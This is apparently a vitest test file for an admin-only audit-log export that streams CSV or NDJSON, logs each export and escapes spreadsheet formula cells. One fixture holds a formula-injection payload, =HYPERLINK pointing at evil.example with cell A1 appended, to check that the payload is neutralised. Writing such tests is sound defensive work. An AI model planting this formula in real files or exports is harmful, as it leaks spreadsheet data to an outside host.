import { and, eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { auditLog } from '@/db/schema';
import { createTestDatabase } from '@/test/database';
import type { AuditActor } from './audit';
import { answerAuditExport, csvCell } from './export-audit-log';

const { db } = await createTestDatabase();
const admin: AuditActor = { id: 'admin-1', email: 'admin@export.test', role: 'admin' };
const oncall: AuditActor = { id: 'oncall-1', email: 'oncall@export.test', role: 'oncall' };

const FROM = new Date('2026-11-01T00:00:00Z');
const TO = new Date('2026-11-02T00:00:00Z');
/** One entry every 36 s fills the day exactly: the one at `to` is the first outside it. */
const IN_RANGE = 2_400;

// From just before the range to just after it; ties on `at` are broken by id.
await db.execute(sql`
  insert into audit_log (at, actor_email, actor_role, action, target, reason, outcome, input)
  select ${FROM.toISOString()}::timestamptz + (n * interval '36 seconds'), 'support@export.test', 'support', 'orders.repushShipment', 'ord_' || n, 'entry ' || n, 'ok', jsonb_build_object('n', n)
  from generate_series(-20, ${IN_RANGE} + 19) as n`);
// Two entries at the same instant, one with every cell a spreadsheet or a CSV reader could misread.
const tricky = { reason: '=HYPERLINK("https://evil.example/?"&A1,"click")', target: 'a,b "quoted"\nnext line', message: '@SUM(1+1)' };
await db.insert(auditLog).values([
  { at: new Date('2026-11-01T12:00:00Z'), actorEmail: '+1 555 admin', action: 'users.changeRole', outcome: 'denied', ...tricky },
  { at: new Date('2026-11-01T12:00:00Z'), actorEmail: '-minus@export.test', action: 'users.changeRole', outcome: 'ok', input: { note: 'tab\there' } },
]);

const expectedIds = (
  await db.execute<{ id: string }>(sql`select id::text as id from audit_log where at >= ${FROM.toISOString()}::timestamptz and at < ${TO.toISOString()}::timestamptz order by at, id`)
).map((row) => row.id);

const exportOf = (actor: AuditActor | null, query: Record<string, string>) =>
  answerAuditExport(db, { actor: async () => actor, query: new URLSearchParams(query), batchRows: 500 });

/** RFC 4180, as a SIEM's importer reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(cell), (cell = '');
    else if (char === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += char;
  }
  return rows;
}

describe('audit log export', () => {
  it('streams every entry of the range as CSV, oldest first, nothing outside it, with formula cells made text', async () => {
    const response = await exportOf(admin, { from: FROM.toISOString(), to: TO.toISOString(), format: 'csv' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-log_2026-11-01T00-00-00-000Z_2026-11-02T00-00-00-000Z\.csv"$/);
    const [header, ...rows] = parseCsv(await response.text());
    expect(header).toEqual(['id', 'at', 'actor_email', 'actor_role', 'action', 'target', 'reason', 'outcome', 'message', 'input', 'result', 'request_id']);
    expect(rows.map((row) => row[0])).toEqual(expectedIds);
    expect(rows.length).toBe(IN_RANGE + 2);
    expect(rows[0]!.slice(1, 7)).toEqual(['2026-11-01T00:00:00.000000Z', 'support@export.test', 'support', 'orders.repushShipment', 'ord_0', 'entry 0']);
    expect(JSON.parse(rows[0]![9]!)).toEqual({ n: 0 });

    const denied = rows.find((row) => row[7] === 'denied')!;
    expect(denied[2]).toBe("'+1 555 admin");
    expect(denied[5]).toBe(tricky.target);
    expect(denied[6]).toBe(`'${tricky.reason}`);
    expect(denied[8]).toBe(`'${tricky.message}`);
    expect(rows.find((row) => row[2] === "'-minus@export.test")).toBeDefined();
  });

  it('streams the same entries as NDJSON, one JSON object a line, values exactly as stored', async () => {
    const response = await exportOf(admin, { from: FROM.toISOString(), to: TO.toISOString(), format: 'ndjson' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const text = await response.text();
    expect(text.endsWith('\n')).toBe(true);
    const entries = text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(entries.map((entry) => String(entry.id))).toEqual(expectedIds);
    expect(entries[0]).toMatchObject({ at: '2026-11-01T00:00:00.000000Z', actorEmail: 'support@export.test', actorRole: 'support', target: 'ord_0', input: { n: 0 }, result: null });
    expect(entries.find((entry) => entry.outcome === 'denied')).toMatchObject({ actorEmail: '+1 555 admin', ...tricky });
  });

  it('sends the rows a batch at a time as the reader asks, not all at once', async () => {
    const response = await exportOf(admin, { from: FROM.toISOString(), to: TO.toISOString(), format: 'ndjson' });
    const reader = response.body!.getReader();
    const first = await reader.read();
    expect(new TextDecoder().decode(first.value).trimEnd().split('\n')).toHaveLength(500);
    await reader.cancel();
    const [entry] = await db.select().from(auditLog).where(eq(auditLog.action, 'audit.export')).orderBy(sql`id desc`).limit(1);
    expect(entry).toMatchObject({ outcome: 'error', message: 'The download was cancelled after 500 rows.' });
  });

  it('records who exported which range in which format, and how many rows went out', async () => {
    const exports = await db.select().from(auditLog).where(and(eq(auditLog.action, 'audit.export'), eq(auditLog.outcome, 'ok'))).orderBy(auditLog.id);
    expect(exports.map((entry) => [entry.actorEmail, entry.input, entry.result])).toEqual([
      ['admin@export.test', { from: FROM.toISOString(), to: TO.toISOString(), format: 'csv' }, { rows: IN_RANGE + 2 }],
      ['admin@export.test', { from: FROM.toISOString(), to: TO.toISOString(), format: 'ndjson' }, { rows: IN_RANGE + 2 }],
    ]);
  });

  it('refuses a stranger (401) and a non-admin (403, recorded), and says what is wrong with a bad range (400)', async () => {
    const anonymous = await exportOf(null, { from: FROM.toISOString(), to: TO.toISOString(), format: 'csv' });
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toEqual({ error: 'unauthorized', message: 'Sign in as an admin to export the audit log.' });

    const refused = await exportOf(oncall, { from: FROM.toISOString(), to: TO.toISOString(), format: 'csv' });
    expect(refused.status).toBe(403);
    expect((await refused.json()).message).toBe('Your role (oncall) cannot export the audit log: it needs admin. Ask an admin if you need it.');
    const [denial] = await db.select().from(auditLog).where(and(eq(auditLog.action, 'audit.export'), eq(auditLog.actorEmail, 'oncall@export.test')));
    expect(denial).toMatchObject({ outcome: 'denied' });

    const backwards = await exportOf(admin, { from: TO.toISOString(), to: FROM.toISOString(), format: 'csv' });
    expect(backwards.status).toBe(400);
    expect((await backwards.json()).message).toBe('from must be before to: the range is from (included) to (excluded)');
    const wrongFormat = await exportOf(admin, { from: FROM.toISOString(), to: TO.toISOString(), format: 'xlsx' });
    expect(wrongFormat.status).toBe(400);
    expect((await wrongFormat.json()).message).toBe('format: csv or ndjson');
    const noRange = await exportOf(admin, { format: 'csv' });
    expect(noRange.status).toBe(400);
    expect((await noRange.json()).message).toMatch(/^from: give the start of the range/);
  });
});

describe('a CSV cell', () => {
  it('is quoted when it holds a comma, quote or line break, and prefixed when a spreadsheet would run it', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell('-2,3')).toBe(`"'-2,3"`);
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell(' padded')).toBe('" padded"');
  });
});
